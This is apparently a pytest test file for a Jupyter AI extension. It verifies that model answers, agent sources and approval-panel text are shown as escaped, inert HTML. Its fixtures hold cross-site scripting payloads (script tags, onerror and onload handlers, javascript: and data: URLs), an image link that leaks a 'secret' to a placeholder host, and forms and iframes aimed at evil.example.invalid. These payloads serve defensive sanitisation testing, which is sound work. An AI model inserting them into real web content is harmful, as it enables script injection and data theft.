"""Model and documentation text never becomes live HTML in a notebook: ``%molsys ask``
(local and over the chat API), the agent's result and the approval panel show it escaped,
with links limited to http(s) and relative URLs and images as links."""

from __future__ import annotations

from html.parser import HTMLParser
from types import SimpleNamespace

import pytest

from molsys_ai_jupyter import display as display_module
from molsys_ai_jupyter.display import AnswerView, answer_bundle, answer_html, link_html, safe_url, show_agent_result

IMAGE_HOST = "images.example.invalid"
HOSTILE = (
    "Here is the answer <img src=x onerror=\"window.__pwned=1\"> and <script>window.__pwned=1</script>\n\n"
    "<svg onload=\"window.__pwned=1\"><circle r=1></svg>\n\n"
    "[click](javascript:window.__pwned=1) [also](JaVa\tScRiPt:alert(1)) [data](data:text/html,<b>x</b>)\n\n"
    f"![x](http://{IMAGE_HOST}/leak.png?q=secret)\n\n"
    "<form action=\"http://evil.example.invalid/\"><button>Run</button><input name=q></form>\n\n"
    "<div>\n<iframe src=\"http://evil.example.invalid/\"></iframe>\n</div>\n\n"
    "[a page](https://www.uibcdf.org/molsysmt/page.html) and [relative](page.html)\n"
)
# what answer HTML may hold: text formatting and links, nothing that runs, loads or submits
ALLOWED_TAGS = {"p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6",
                "blockquote", "br", "hr", "table", "thead", "tbody", "tr", "th", "td", "s", "div", "b", "span"}
ALLOWED_ATTRIBUTES = {"href", "target", "rel", "class", "start", "style", "title"}


class Elements(HTMLParser):
    """The tags and attributes of an HTML text, as a browser's parser would see them."""

    def __init__(self, text: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_inert(text: str) -> list[tuple[str, dict]]:
    tags = Elements(text).tags
    assert {tag for tag, _ in tags} <= ALLOWED_TAGS, tags
    for tag, attrs in tags:
        assert set(attrs) <= ALLOWED_ATTRIBUTES, (tag, attrs)
        if "href" in attrs:
            assert safe_url(attrs["href"]) is not None, attrs
        if "style" in attrs:  # colours and layout; nothing that loads
            assert "url(" not in attrs["style"].lower() and "expression" not in attrs["style"].lower(), attrs
    return tags


@pytest.mark.parametrize("url,safe", [
    ("https://www.uibcdf.org/a.html", True), ("http://x.org/", True), ("page.html", True), ("#part", True),
    ("/files/a.html", True), ("javascript:alert(1)", False), ("JavaScript:alert(1)", False),
    (" java\tscript:alert(1)", False), ("data:text/html,x", False), ("vbscript:x", False), ("file:///etc/passwd", False),
])
def test_safe_url_keeps_http_and_relative_urls_only(url, safe):
    assert (safe_url(url) is not None) is safe


def test_answer_html_has_no_live_html_and_no_image():
    text = answer_html(HOSTILE)
    tags = assert_inert(text)
    assert not any(tag == "img" for tag, _ in tags)
    links = [attrs["href"] for tag, attrs in tags if tag == "a"]
    assert f"http://{IMAGE_HOST}/leak.png?q=secret" in links  # the image is a link, shown, not fetched
    assert "https://www.uibcdf.org/molsysmt/page.html" in links and "page.html" in links
    assert not any("javascript" in link.lower() or link.startswith("data:") for link in links)
    # the hostile markup is shown as text
    assert "&lt;img src=x onerror=" in text and "&lt;script&gt;" in text and "&lt;button&gt;Run" in text


def test_answer_html_without_a_markdown_renderer_is_escaped_text_with_its_http_links(monkeypatch):
    monkeypatch.setattr(display_module, "_markdown_renderer", lambda: None)
    text = answer_html(HOSTILE)
    tags = assert_inert(text)
    links = [attrs["href"] for tag, attrs in tags if tag == "a"]
    assert links == [f"http://{IMAGE_HOST}/leak.png?q=secret", "https://www.uibcdf.org/molsysmt/page.html"]
    assert "&lt;script&gt;" in text


def test_link_html_escapes_titles_and_drops_bad_urls():
    assert link_html("javascript:alert(1)", "<b>t</b>") == "&lt;b&gt;t&lt;/b&gt;"
    made = link_html('https://x.org/?a="><script>', "<i>t</i>")
    assert_inert(made)
    assert "<script>" not in made and "&lt;i&gt;t&lt;/i&gt;" in made


class FakeHandle:
    def __init__(self, shown: list):
        self.shown = shown

    def update(self, obj, raw=False):
        assert raw
        self.shown.append(obj)


@pytest.fixture
def shown(monkeypatch) -> list[dict]:
    """What the notebook displays (the bundles given to IPython's display)."""
    bundles: list[dict] = []

    def fake_display(obj, raw=False, display_id=False):
        assert raw, f"{type(obj).__name__} given to display: only raw bundles of safe HTML are allowed"
        bundles.append(obj)
        return FakeHandle(bundles) if display_id else None

    monkeypatch.setattr("IPython.display.display", fake_display)
    return bundles


def test_answer_view_in_a_notebook_streams_and_ends_with_safe_html(monkeypatch, shown):
    monkeypatch.setattr(display_module, "in_notebook", lambda shell: True)
    monkeypatch.setattr(display_module, "UPDATE_EVERY_S", 0.0)
    view = AnswerView(shell=None)
    for piece in HOSTILE.split(" "):
        view.token(piece + " ")
    view.final(SimpleNamespace(markdown=HOSTILE, text=HOSTILE))
    assert len(shown) > 2
    for bundle in shown:
        assert set(bundle) == {"text/html", "text/plain"}
        assert_inert(bundle["text/html"])
    assert shown[-1] == answer_bundle(HOSTILE)


def test_agent_result_sources_are_escaped_links(monkeypatch, shown, capsys):
    monkeypatch.setattr(display_module, "in_notebook", lambda shell: True)
    result = SimpleNamespace(code="", ok=True, final_answer=1, new_variables=[], message="", sources=[
        {"title": "<img src=x onerror=alert(1)>", "url": "javascript:alert(1)"},
        {"title": "A page", "url": "https://www.uibcdf.org/a.html"}])
    show_agent_result(result, shell=None)
    (bundle,) = shown
    tags = assert_inert(bundle["text/html"])
    assert [attrs["href"] for tag, attrs in tags if tag == "a"] == ["https://www.uibcdf.org/a.html"]


def test_remote_ask_shows_the_answer_and_errors_as_safe_html(monkeypatch, shown, tmp_path):
    """``%molsys ask`` with a chat API: its answer, its model's name and its errors."""
    from IPython.core.error import UsageError
    from IPython.core.interactiveshell import InteractiveShell

    from molsys_ai_jupyter import remote
    from molsys_ai_jupyter.remote import RemoteAnswer, RemoteError

    monkeypatch.setenv("MOLSYS_AI_CONFIG", str(tmp_path / "none.toml"))
    monkeypatch.setenv("MOLSYS_AI_API_URL", "http://127.0.0.1:9")
    monkeypatch.setattr("molsys_ai_jupyter.display.in_notebook", lambda shell: True)
    monkeypatch.setattr(display_module, "UPDATE_EVERY_S", 0.0)

    def chat(self, question, on_token=None, **_):
        for piece in HOSTILE.split("\n"):
            on_token(piece + "\n")
        return RemoteAnswer(question=question, text=HOSTILE, markdown=HOSTILE, model="<script>m</script>")

    def fail(self, question, on_token=None, **_):
        raise RemoteError("<img src=x onerror=alert(1)>", "<script>x</script>")

    shell = InteractiveShell.instance()
    try:
        shell.run_line_magic("load_ext", "molsys_ai_jupyter")
        monkeypatch.setattr(remote.ChatClient, "chat", chat)
        shell.run_line_magic("molsys", "ask q")
        assert len(shown) > 3 and "&lt;script&gt;m&lt;/script&gt;" in shown[-1]["text/html"]  # the model's name
        for bundle in shown:
            assert_inert(bundle["text/html"])

        shown.clear()
        monkeypatch.setattr(remote.ChatClient, "chat", fail)
        with pytest.raises(UsageError):
            shell.run_line_magic("molsys", "ask q")
        assert "&lt;img src=x" in shown[-1]["text/html"]
        assert_inert(shown[-1]["text/html"])
    finally:
        InteractiveShell.clear_instance()


# ---------------------------------------------------------------- the approval panel (ipywidgets)

HOSTILE_LINE = "<img src=x onerror=alert(1)><script>alert(1)</script><form><button>Run</button></form>"


class FakeAgent:
    on_status = None

    @staticmethod
    def describe_plan(attempt) -> str:
        return f"recipe {attempt.recipe} ({HOSTILE_LINE})"


def fake_run(result):
    return SimpleNamespace(agent=FakeAgent(), task=HOSTILE_LINE, max_attempts=3, result=result,
                           check=lambda code: [])


def test_approval_panel_escapes_plan_code_findings_and_notes():
    pytest.importorskip("ipywidgets")
    from molsys_ai_jupyter.agent.agent import Attempt
    from molsys_ai_jupyter.approval_panel import AttemptPanel, NotebookRun

    findings = [{"kind": "shell", "line": 1, "detail": HOSTILE_LINE}]
    attempt = Attempt(recipe="count_atoms", params={"file": HOSTILE_LINE}, code=f"x = '{HOSTILE_LINE}'",
                      policy=findings)
    owner = NotebookRun(fake_run(SimpleNamespace(attempts=[attempt], sources=[])), SimpleNamespace(user_ns={}))
    panel = AttemptPanel(owner, attempt, number=1)
    panel.say(HOSTILE_LINE, error=True)
    for widget in (owner.header, panel.title, panel.code_view, panel.findings, panel.note):
        tags = assert_inert(widget.value)
        assert "img" not in {tag for tag, _ in tags} and HOSTILE_LINE not in widget.value


def test_approval_panel_summary_links_are_escaped_and_http_only(monkeypatch):
    widgets = pytest.importorskip("ipywidgets")
    from molsys_ai_jupyter.approval_panel import NotebookRun

    result = SimpleNamespace(ok=False, message=HOSTILE_LINE, code="", new_variables=[], attempts=[], sources=[
        {"title": HOSTILE_LINE, "url": "javascript:alert(1)"},
        {"title": "A page <b>", "url": "https://www.uibcdf.org/a.html?x=\"><script>"}])
    run = NotebookRun(fake_run(result), SimpleNamespace(user_ns={}), view=False)
    run.box = widgets.VBox()  # the panel is on show: the summary goes into it
    run._finished()
    tags = assert_inert(run.summary.value)
    assert [attrs["href"] for tag, attrs in tags if tag == "a"] == ['https://www.uibcdf.org/a.html?x="><script>']
    assert HOSTILE_LINE not in run.summary.value
